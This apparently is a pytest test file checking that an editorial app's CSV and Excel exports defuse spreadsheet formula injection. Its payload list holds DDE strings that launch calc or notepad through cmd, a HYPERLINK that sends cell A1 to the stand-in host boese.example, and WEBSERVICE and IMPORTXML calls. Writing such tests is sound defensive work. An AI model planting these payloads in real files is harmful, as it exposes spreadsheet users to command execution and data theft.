"""Sixty texts that a spreadsheet could calculate, through every table that leaves the program: none is a formula."""

from __future__ import annotations

import csv
from datetime import date, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from editorial.app import Workspace
from editorial.domain.content import Status
from editorial.services.plan_export import Wish
from tests.builders import ME, make_item
from tests.programs import office

_ACTS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://boese.example/?"&A1;"Hier")',
    "SUM(1,2)",
    'IMPORTXML(CONCAT(A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    'WEBSERVICE("http://boese.example")',
    "10%",
    "A1:B2",
    "2+5+cmd|' /C notepad'!'A1'",
)
_STARTS = ("=", "+", "-", "@", "\t=", "＝")
PAYLOADS = [start + act for start in _STARTS for act in _ACTS]
_CALCULATED = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    for number, words in enumerate(PAYLOADS):
        make_item(
            workspace,
            words,
            text=words,
            brief=words,
            key_message=words,
            notes=words,
            format=words,
            labels=(words,),
            day=date(2026, 6, 1 + number % 28),
            at=time(10),
            status=Status.APPROVED,
        )
    return workspace


def test_there_are_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize(
    ("what", "name"),
    [
        ("plan", "plan.csv"),
        ("calendar", "kalender.csv"),
        ("journal", "journal.csv"),
        ("scheduler", "buffer.csv"),
        ("scheduler", "hootsuite.csv"),
        ("scheduler", "publer.csv"),
    ],
)
def test_no_cell_of_a_csv_is_calculated(hostile: Workspace, tmp_path: Path, what: str, name: str) -> None:
    path = hostile.exports.write(ME, what, tmp_path / name, Wish()).path
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream, delimiter="," if what == "scheduler" else ";"))
    assert len(rows) >= len(PAYLOADS)
    bad = [cell for row in rows for cell in row if cell.startswith(_CALCULATED)]
    assert bad == []


@pytest.mark.parametrize(("what", "name"), [("plan", "plan.xlsx"), ("calendar", "kalender.xlsx")])
def test_no_cell_of_a_workbook_is_a_formula(hostile: Workspace, tmp_path: Path, what: str, name: str) -> None:
    path = hostile.exports.write(ME, what, tmp_path / name, Wish()).path
    book = load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert sum(1 for one in cells if one.value in PAYLOADS) >= len(PAYLOADS)
    assert [one.coordinate for one in cells if one.data_type == "f" or one.hyperlink] == []


@pytest.mark.timeout(300)
@pytest.mark.parametrize("name", ["plan.csv", "plan.xlsx"])
def test_libreoffice_calculates_nothing(hostile: Workspace, tmp_path: Path, name: str) -> None:
    path = hostile.exports.write(ME, "plan", tmp_path / name, Wish()).path
    # Semicolons (59), quotes (34), UTF-8 (76), from the first line on; formulas are evaluated where there are any.
    reading = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true" if name.endswith(".csv") else ""
    opened = office(path, "fods", tmp_path, filters=reading).read_text("utf-8")
    assert opened.count("table:table-row") > len(PAYLOADS)
    assert "table:formula" not in opened
